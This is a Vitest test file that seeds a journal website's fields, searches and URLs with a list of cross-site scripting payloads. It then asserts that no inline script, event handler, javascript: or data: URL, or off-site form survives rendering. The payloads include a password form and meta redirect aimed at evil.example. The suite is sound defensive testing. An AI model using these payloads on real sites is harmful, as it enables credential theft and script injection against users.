import { describe, expect, it } from 'vitest';
import { fixedPaths } from '../support/fixed-pages.ts';
import { have, pdfBytes } from '../support/have.ts';
import { readPage } from '../support/html.ts';
import { onSite, siteToRead } from '../support/sites.ts';

/** Every text that somebody can write, in the shapes that got through elsewhere. */
const attacks = [
  '<script>alert(1)</script>',
  '"><svg onload=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<!--<script>-->',
  '<a href="javascript:alert(1)">go</a>',
  '<a href="java&#10;script:alert(1)">go</a>',
  '<a href="data:text/html,<script>alert(1)</script>">go</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>*{display:none}</style><p style="position:fixed">x</p>',
  '<math><mtext></p><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '\u2028alert(1)\u2029',
  '{{7*7}}<%= 7*7 %>',
  ']]><script>alert(1)</script>',
  '<form action="https://evil.example"><input name=password></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
];
const links = [
  'javascript:alert(1)',
  ' JaVaScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>',
];

const pages = [
  ...fixedPaths,
  '/archives/2024/vol4/issue2',
  ...attacks.map((_, index) => `/archives/2024/4/2/${101 + index}`),
  '/search?keyword=Marked',
  ...attacks.map((attack) => `/search?keyword=${encodeURIComponent(attack)}`),
  ...attacks.map((_, index) => `/pdf?refno=${101 + index}`),
  ...attacks.map((attack) => `/pdf?refno=${encodeURIComponent(attack)}`),
  ...attacks.map((attack) => `/${encodeURIComponent(attack)}`),
  '/api',
];

describe('hostile markup', () => {
  const all = attacks.join(' ');
  const site = siteToRead('sqlite', async ({ journal }) => {
    const fields = ['websitename', 'formatted_journal_name', 'websiteemail', 'journal_essn'];
    const more = ['year_started', 'journal_frequency', 'journal_type', 'journal_language'];
    const most = ['impactfactor', 'nassScore', 'nassScoreYear', 'whatsup_number', 'home_content'];
    const hostile = [...fields, ...more, ...most, 'fee_rupee', 'fee_dollar'];
    await have.settings(journal, Object.fromEntries(hostile.map((field) => [field, all])));
    await journal.settings.update({ domain: 'contact-journal-1.example' });
    await have.articles(
      journal,
      attacks.map((attack, index) => ({
        refnumber: 101 + index,
        title: `Marked ${index} ${attack}`,
        authorname: `A ${attack}, B`,
        abstract: `<p>Marked ${attack}</p>`,
        keywords: `k ${attack}; l`,
        subject: attack,
        country: attack,
        pagenumber: attack.slice(0, 40),
        doi: `10.1/${attack}`,
        frequency: attack,
        pdf: pdfBytes(),
      })),
    );
    for (const attack of attacks) {
      await have.editor(journal, {
        name: attack,
        post: attack,
        content: attack,
        degree: attack,
        country: attack,
        email: attack,
        phone: attack,
      });
      await have.indexing(journal, { title: attack, link: attack, image: '' });
    }
    for (const link of links) await have.indexing(journal, { title: 'Marked link', link });
  });

  it('is there to be shown', async () => {
    expect(readPage((await site().get('/board')).text).main).toContain('<script>alert(1)</script>');
    expect(readPage((await site().get('/archives/2024/4/2/101')).text).text).toContain('Marked 0');
  });

  it.each(pages)('is inert in %s', async (path) => {
    const answer = await site().get(path);
    expect([path, answer.status < 500]).toEqual([path, true]);
    const page = readPage(answer.text);
    expect(page.inlineScripts).toEqual([]);
    for (const { name, attribs } of page.elements) {
      if (name === 'script') expect(attribs.src ?? '/static/').toMatch(/^\/static\//);
      expect(['iframe', 'object', 'embed', 'base', 'math', 'style']).not.toContain(name);
      for (const attribute of Object.keys(attribs)) {
        expect(attribute).not.toMatch(/^on|^style$|^srcdoc$|["'<]/);
      }
      for (const url of [attribs.href, attribs.src, attribs.action, attribs.formaction]) {
        expect(url ?? '').not.toMatch(/^[\s\p{C}]*(javascript|data|vbscript)\s*:/iu);
      }
      if (name === 'form') expect(attribs.action).toMatch(/^(?:\/(?!\/)|#)/);
      if (name === 'meta') expect(attribs['http-equiv']).toBeUndefined();
    }
    const json = /<script[^>]*application\/(?:ld\+)?json[^>]*>([\s\S]*?)<\/script>/g;
    for (const [, text = ''] of answer.text.matchAll(json)) {
      expect(() => JSON.parse(text)).not.toThrow();
      expect(text).not.toMatch(/[<\u2028\u2029]/);
    }
  });

  it('leaves no field of a meta tag, header or link broken', async () => {
    for (const [index] of attacks.entries()) {
      const path = `/archives/2024/4/2/${101 + index}`;
      const page = readPage((await site().get(path)).text);
      expect(page.meta('citation_author').length).toBeGreaterThan(0);
      expect(page.meta('citation_title')).toHaveLength(1);
      expect(page.meta('citation_title')[0]).toContain(`Marked ${index}`);
      expect(page.rel('canonical')).toEqual([`https://demo.example${path}`]);
      expect(() => JSON.stringify(page.jsonLd())).not.toThrow();
    }
  });
});

onSite('the plain name of a journal without a formatted one is text on its pages', async (site) => {
  const websitename = '<img src=x onerror=alert(1)> Soil &lt;b&gt; & Water';
  await have.settings(site.journal, { websitename, formatted_journal_name: '' });
  for (const path of ['/', '/contact']) {
    const { elements, text } = readPage((await site.get(path)).text);
    expect(elements.filter(({ attribs }) => attribs.src === 'x')).toEqual([]);
    expect(text).toContain(websitename);
  }
});
